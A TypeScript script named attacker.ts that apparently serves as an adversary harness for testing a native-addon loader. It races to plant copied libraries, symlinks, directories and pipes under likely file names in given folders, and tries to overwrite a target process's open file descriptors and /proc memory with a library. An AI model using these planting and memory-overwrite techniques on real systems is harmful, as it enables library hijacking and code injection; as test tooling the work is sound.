/**
 * Plants and exchanges what it can in the folders that are named, as fast as it can, until its standard input ends; then it
 * removes what it has made, and prints what it did. It also looks for the process that it is up against, and tries to come
 * at its open files and its memory.
 *
 * node attacker.ts SCRATCH LIBRARY PROGRAM FOLDER…
 */
import {
  closeSync,
  copyFileSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeSync,
} from "node:fs";
import { join } from "node:path";

const [scratch = "", library = "", program = "", ...folders] = process.argv.slice(2);
/** What a loader may name its file, and what the kernel calls one that has no name. */
const NAMES = ["one.node", ".one.node", "bpf-app", "addon.node", "node-addon-api", "one", "self", "fd"];
const done = { planted: 0, refused: 0, seen: 0, reached: 0 };
const made = new Set<string>();

/** Does what may be refused, or come too late. */
function attempt(work: () => void): boolean {
  try {
    work();
    return true;
  } catch {
    return false;
  }
}

const KINDS: readonly ((path: string) => void)[] = [
  (path) => copyFileSync(library, path),
  (path) => symlinkSync(library, path),
  (path) => mkdirSync(path),
  // The pipe was made before: it is moved into place.
  (path) => renameSync(join(scratch, "pipe"), path),
];

function plant(folder: string, name: string, round: number): void {
  const path = join(folder, name);
  const fresh = `${path}.${round % 7}`;
  for (const one of [fresh, path]) made.add(one);
  const kind = KINDS[round % KINDS.length]!;
  attempt(() => rmSync(fresh, { recursive: true, force: true }));
  const planted = attempt(() => kind(fresh)) && attempt(() => renameSync(fresh, path));
  done[planted ? "planted" : "refused"]++;
  // The pipe goes back, for the next time.
  if (round % KINDS.length === 3) attempt(() => renameSync(path, join(scratch, "pipe")));
  if (round % 3 === 0) attempt(() => rmSync(path, { recursive: true, force: true }));
}

/** Overwrites whatever the other process has open. */
function reach(pid: string): void {
  const open = (path: string) =>
    attempt(() => {
      const descriptor = openSync(path, "r+");
      writeSync(descriptor, readFileSync(library));
      closeSync(descriptor);
    });
  done.seen++;
  for (let descriptor = 16; descriptor < 32; descriptor++)
    if (open(`/proc/${pid}/fd/${descriptor}`)) done.reached++;
  if (open(`/proc/${pid}/mem`)) done.reached++;
  for (const range of listed(`/proc/${pid}/map_files`))
    if (/deleted/.test(text(() => readlinkSync(`/proc/${pid}/map_files/${range}`)))) done.reached++;
}

function listed(folder: string): string[] {
  let names: string[] = [];
  attempt(() => {
    names = readdirSync(folder);
  });
  return names;
}

function text(read: () => string): string {
  let found = "";
  attempt(() => {
    found = read();
  });
  return found;
}

let ended = false;
process.stdin.resume().on("end", () => {
  ended = true;
});

for (let round = 0; !ended; round++) {
  for (const folder of folders) plant(folder, NAMES[round % NAMES.length]!, round);
  if (round % 8 === 0)
    for (const pid of listed("/proc"))
      if (
        /^\d+$/.test(pid) &&
        text(() => readFileSync(`/proc/${pid}/cmdline`, "latin1")).startsWith(`${program}\0`)
      )
        reach(pid);
  if (round === 0) console.log("ready");
  // Whether standard input has ended is seen between two turns.
  await new Promise((next) => setImmediate(next));
}
for (const path of made) attempt(() => rmSync(path, { recursive: true, force: true }));
console.log(JSON.stringify({ ...done, made: [...made] }));
